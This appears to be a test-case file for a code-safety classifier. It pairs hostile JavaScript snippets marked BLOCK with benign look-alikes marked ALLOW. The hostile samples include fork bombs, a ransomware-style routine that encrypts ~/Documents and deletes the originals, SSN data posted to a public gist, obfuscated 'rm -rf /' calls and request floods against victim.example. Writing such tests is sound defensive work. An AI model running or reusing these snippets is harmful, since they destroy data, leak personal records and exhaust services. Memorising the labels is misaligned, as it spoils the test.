/** what flows through a program */
import type { JavaScriptCases } from "../javascript-case.ts";

export const FLOWS: JavaScriptCases = {
  "what flows through a program": [
    ["BLOCK", "resource.exhaust command.process", "require('child_process').fork(__filename)"],
    ["BLOCK", "resource.exhaust command.process", "require('child_process').spawn(process.execPath, [__filename])"],
    ["ALLOW", "", "if (!process.argv[2]) require('child_process').fork(__filename, ['child'])"],
    [
      "BLOCK",
      "fs.write path.home",
      "import { createCipheriv, randomBytes } from 'node:crypto';\nimport { createReadStream, createWriteStream } from 'node:fs';\nimport { readdir, unlink } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { pipeline } from 'node:stream/promises';\nconst root = join(homedir(), 'Documents');\nfor (const name of await readdir(root)) {\n  const file = join(root, name);\n  await pipeline(createReadStream(file), createCipheriv('aes-256-ctr', randomBytes(32), randomBytes(16)), createWriteStream(file + '.sealed'));\n  await unlink(file);\n}",
    ],
    [
      "ALLOW",
      "",
      "import { createCipheriv, randomBytes } from 'node:crypto';\nimport { createReadStream, createWriteStream } from 'node:fs';\nimport { readdir, unlink } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { pipeline } from 'node:stream/promises';\nconst root = join('test', 'fixtures');\nfor (const name of await readdir(root)) {\n  const file = join(root, name);\n  await pipeline(createReadStream(file), createCipheriv('aes-256-ctr', randomBytes(32), randomBytes(16)), createWriteStream(file + '.sealed'));\n  await unlink(file);\n}",
    ],
    [
      "BLOCK",
      "fs.write path.unknown",
      "const fs = require('fs'); const c = require('crypto');\nfor (const e of fs.readdirSync('/home/u/Documents', { withFileTypes: true, recursive: true })) {\n  const p = e.parentPath + '/' + e.name;\n  fs.createReadStream(p).pipe(c.createCipheriv('aes-256-ctr', k, i)).pipe(fs.createWriteStream(p + '.x'));\n}",
    ],
    [
      "ALLOW",
      "",
      "const fs = require('fs'); const c = require('crypto');\nfor (const e of fs.readdirSync('./fixtures', { withFileTypes: true, recursive: true })) {\n  const p = e.parentPath + '/' + e.name;\n  fs.createReadStream(p).pipe(c.createCipheriv('aes-256-ctr', k, i)).pipe(fs.createWriteStream(p + '.x'));\n}",
    ],
    [
      "REQUIRES_APPROVAL",
      "mail.send",
      "import nodemailer from 'nodemailer'; import { parse } from 'csv-parse/sync'; import fs from 'node:fs';\nconst t = nodemailer.createTransport({});\nfor (const c of parse(fs.readFileSync('leads.csv'), { columns: true })) await t.sendMail({ to: c.email, text: 'x' });",
    ],
    [
      "ALLOW",
      "",
      "import nodemailer from 'nodemailer'; import { parse } from 'csv-parse/sync'; import fs from 'node:fs';\nconst t = nodemailer.createTransport({});\nawait t.sendMail({ to: 'team@example.com', text: 'x' });",
    ],
    [
      "BLOCK",
      "net.send host.public",
      "import { PrismaClient } from '@prisma/client'; import { Octokit } from '@octokit/rest';\nconst rows = await new PrismaClient().visit.findMany({ select: { ssn: true } });\nawait new Octokit({ auth: process.env.T }).gists.create({ public: true, files: { a: { content: JSON.stringify(rows) } } });",
    ],
    [
      "ALLOW",
      "",
      "import { PrismaClient } from '@prisma/client'; import { Octokit } from '@octokit/rest';\nconst rows = await new PrismaClient().visit.findMany({ select: { title: true } });\nawait new Octokit({ auth: process.env.T }).gists.create({ public: true, files: { a: { content: JSON.stringify(rows) } } });",
    ],
    [
      "BLOCK",
      "process.exec command.destructive",
      "import { execSync } from 'child_process';\nfunction log(t, k, d) { const o = d.value; d.value = function (...a) { return o.apply(this, a); }; }\nclass C { @log run(c) { execSync(c); } }\nnew C().run('rm -rf /');",
    ],
    [
      "ALLOW",
      "",
      "import { execSync } from 'child_process';\nfunction log(t, k, d) { const o = d.value; d.value = function (...a) { return o.apply(this, a); }; }\nclass C { @log run(c) { execSync(c); } }\nnew C().run('ls');",
    ],
    [
      "BLOCK",
      "process.exec command.destructive",
      "import { execSync } from 'child_process';\nfunction log(t, k, d) { const o = d.value; d.value = (...a) => o(...a); return d; }\nclass C { @log run(c) { execSync(c); } }\nnew C().run('rm -rf /');",
    ],
    [
      "ALLOW",
      "",
      "import { execSync } from 'child_process';\nfunction log(t, k, d) { const o = d.value; d.value = (...a) => o(...a); return d; }\nclass C { @log run(c) { execSync(c); } }\nnew C().run('ls');",
    ],
    ["BLOCK", "resource.exhaust", "while (true) { await fetch('https://victim.example/?q=' + Math.random()) }"],
    ["ALLOW", "", "while (true) { await fetch('https://a.example/heartbeat'); await sleep(1000) }"],
    [
      "BLOCK",
      "resource.exhaust",
      "const axios = require('axios'); async function w() { for (;;) { try { await axios.get('https://victim.example/') } catch {} } }\nfor (let i = 0; i < 500; i++) w();",
    ],
    [
      "ALLOW",
      "",
      "const axios = require('axios'); async function w() { for (;;) { const { data } = await axios.get('https://a.example/jobs'); console.log(data); } }\nw();",
    ],
    [
      "BLOCK",
      "process.exec command.destructive",
      "const cp = require('child_process'); const k = Object.keys(cp).find(n => /^exec.*c$/.test(n) && n.length === 8); cp[k]('rm -rf /');",
    ],
    [
      "ALLOW",
      "",
      "const cp = require('child_process'); const k = Object.keys(cp).find(n => /^exec.*c$/.test(n) && n.length === 8); cp[k]('ls');",
    ],
  ],
};
